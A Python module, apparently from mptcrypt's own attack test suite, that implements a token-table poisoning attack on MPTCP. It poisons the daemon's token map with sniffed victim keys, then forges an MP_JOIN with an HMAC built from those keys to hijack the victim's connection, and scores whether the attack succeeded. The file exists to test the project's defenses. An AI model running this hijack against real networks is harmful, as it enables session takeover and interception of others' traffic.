"""Attack 10 (mptcrypt-specific), token-table poisoning: re-point the victim's MPTCP token to the attacker's session.

Issue 12 item 2. The attacker runs mptcrypt itself (an in-process `Engine`, the same code as the daemons) and opens
its OWN protected MPTCP connection to the server from 10.0.1.66; its third ACK (MAC-verified: it is the attacker's
own connection) names the victim's server key, sniffed off path 1, as the receiver's key. A server daemon that
registers the tokens of whatever keys a verified third ACK carries now maps the victim's token to the attacker's
session. Then the attacker sends an MP_JOIN SYN for the victim's token from a new port: its engine proves
NEXTK1 from the attacker's own session, which the poisoned server daemon accepts; the join's MPTCP HMAC is computed
from the victim's sniffed keys (RFC 8684 §3.2), so the server kernel adds the subflow to the VICTIM's connection,
protected with keys the attacker holds. Against plain MPTCP there is no daemon to poison: the join is the
plain join hijack (attack 1).

The attacker's "kernel" is this module: it writes the SYN, third ACK and join segments a Linux kernel would and
passes them through its engine, which adds HELLO/NEXTK1, absorbs INIT2 and MACs what follows.

Effect measured: the server kept a subflow from 10.0.1.66 on the victim's connection (`ss`), or the attacker's
join reached the established state (the server's kernel accepted the join HMAC).
"""

from __future__ import annotations

import os
import random
import socket
import struct
import time

from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.runner import ATTACKER_IP, Evidence, Verdict
from mptcrypt.wire.ip import build_ip_header
from mptcrypt.wire.mptcp import MptcpOption, encode_mptcp, join_hmac
from mptcrypt.wire.tcp import ACK, RST, SYN, TCPHeader, TCPOption, encode_options, pad_options

NUMBER = 10
TITLE = "token-table poisoning from the attacker's own protected connection"
SOURCE = "issue 12 item 2 (mptcrypt's token map); RFC 8684 §3.2 (join HMAC from sniffed keys)"
_ETH = struct.Struct("!6s6sH")


class OwnStack:
    """The attacker's userspace TCP endpoint with an mptcrypt engine in front of it, over the tap."""

    def __init__(self, agent) -> None:
        from mptcrypt.core.config import Config
        from mptcrypt.core.engine import Engine

        self.agent = agent
        self.engine = Engine(Config())
        v = agent.view
        self.me = socket.inet_aton(v.me)
        self.server = socket.inet_aton(v.server)
        self.received: list[tuple] = []  # (sport, dport, seq, ack, flags, options raw) the "kernel" got
        agent.handlers.append(self.on_segment)

    def segment(self, sport: int, seq: int, ack: int, flags: int, options: list, payload: bytes = b"") -> bytes:
        tcp = TCPHeader(sport, self.agent.view.port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, flags, 65535,
                        options=pad_options(encode_options(options)))
        body = tcp.encode(payload, self.me, self.server)
        return build_ip_header(self.me, self.server, len(body)) + body

    def output(self, packet: bytes, what: str) -> None:
        """The 'kernel' sends `packet`: through the engine, then on the wire."""
        res = self.engine.handle(packet, True, time.monotonic())
        out = ([res.packet or packet] if res.verdict.value == "accept" else []) + list(res.inject)
        for p in out:
            self._send(p, what)

    def _send(self, packet: bytes, what: str) -> None:
        v = self.agent.view
        frame = _ETH.pack(v.macs.get(v.server, b"\xff" * 6), self.agent.tap.mac, 0x0800) + packet
        self.agent.send(frame, what)

    def on_segment(self, seg) -> None:
        if seg.src != self.agent.view.server or seg.dst != self.agent.view.me or not seg.packet:
            return
        res = self.engine.handle(seg.packet, False, time.monotonic())
        for p in res.inject:
            self._send(p, "engine (INIT1 / released segments)")
        if res.verdict.value == "accept":
            from mptcrypt.wire.segment import parse_segment

            s = parse_segment(res.packet or seg.packet)
            self.received.append((s.dport, s.seq, s.ack, s.flags, s.option_bytes()))

    def wait(self, port: int, flags: int, timeout: float):
        """The first segment the 'kernel' got on `port` with all of `flags`, or None."""
        def found():
            return next((r for r in self.received if r[0] == port and r[3] & flags == flags), None)
        self.agent.pump(time.time() + timeout, stop=lambda: found() is not None)
        return found()


def _mss():
    return TCPOption(2, struct.pack("!H", 1400))


def attack(agent) -> dict:
    v = agent.view
    if not v.keys_known:
        return {"skipped": "MP_CAPABLE keys not seen"}
    stack = OwnStack(agent)
    out: dict = {"own_connection": None, "join": "not sent"}
    # 1. the attacker's own protected MPTCP connection, its third ACK naming the victim's server key
    port, isn, akey = random.randint(20000, 30000), random.getrandbits(32), os.urandom(8)
    mpc_syn = TCPOption(30, encode_mptcp(MptcpOption.mpc_syn())[2:])
    stack.output(stack.segment(port, isn, 0, SYN, [_mss(), TCPOption(4), mpc_syn]), "own SYN (MP_CAPABLE)")
    synack = stack.wait(port, SYN | ACK, 1.5)
    if synack is None:
        return {**out, "own_connection": "no SYN-ACK"}
    s_isn = synack[1]
    mpc_ack = TCPOption(30, encode_mptcp(MptcpOption.mpc_ack(akey, v.key_server))[2:])
    stack.output(stack.segment(port, isn + 1, s_isn + 1, ACK, [mpc_ack]), "own third ACK naming the victim's key")
    agent.pump(time.time() + 0.5)
    row = next(iter(stack.engine.sessions()), {})
    out["own_connection"] = row.get("state")
    # 2. a join of the VICTIM's connection, NEXTK1 from the attacker's own session
    jport, jisn, r_a = random.randint(30001, 40000), random.getrandbits(32), random.getrandbits(32)
    out["join_port"] = jport
    token = v.token_server
    mpj = TCPOption(30, encode_mptcp(MptcpOption.mpj_syn(token, r_a, addr_id=66))[2:])
    stack.output(stack.segment(jport, jisn, 0, SYN, [_mss(), mpj]), "MP_JOIN SYN for the victim's token")
    out["join"] = "syn sent"
    jsynack = stack.wait(jport, SYN | ACK, 1.5)
    if jsynack is None:
        return {**out, "join": "no SYN-ACK (refused)"}
    from mptcrypt.wire.mptcp import parse_mptcp
    from mptcrypt.wire.tcp import parse_options

    opt = next((o for o in parse_options(jsynack[4]) if o.kind == 30), None)
    r_b = parse_mptcp(opt.encode()).nonce if opt is not None else 0
    hmac20 = join_hmac(v.key_client, v.key_server, r_a, r_b)[:20]
    ack = TCPOption(30, encode_mptcp(MptcpOption.mpj_ack(hmac20))[2:])
    stack.output(stack.segment(jport, jisn + 1, jsynack[1] + 1, ACK, [ack]), "MP_JOIN third ACK (victim's HMAC)")
    agent.pump(time.time() + 1.0)
    killed = any(r[0] == jport and r[3] & RST for r in stack.received)
    out["join"] = "reset by the server" if killed else "completed"
    out["engine"] = {k: v for k, v in stack.engine.stats().items() if v and k in (
        "joins_protected", "unauthenticated_dropped", "mac_failures", "token_collisions_refused")}
    return out


def judge(ev: Evidence) -> Verdict:
    r = ev.result
    join_peer = f"{ATTACKER_IP}:{r.get('join_port')}"
    # the attacker's OWN connection also shows up on the server (from 10.0.1.66): only the join's port counts
    joined = any(sf.get("remote") == join_peer for s in ev.timeline for sf in s.get("server", []))
    answered = r.get("join") == "completed"  # the server kernel answered the join SYN and did not reset it
    evidence = {"own_connection": r.get("own_connection"), "join": r.get("join"),
                "attacker_engine": r.get("engine"), "server_subflow_from_attacker_join": joined,
                "server_token_collisions_refused": ev.stat("server", "token_collisions_refused"),
                "server_joins_refused": ev.stat("server", "joins_refused")}
    return decide(ev, joined or answered, f"the server added the attacker's join ({join_peer}) to the victim's "
                  "connection", "join refused: the victim's token still maps to the victim's session", evidence)
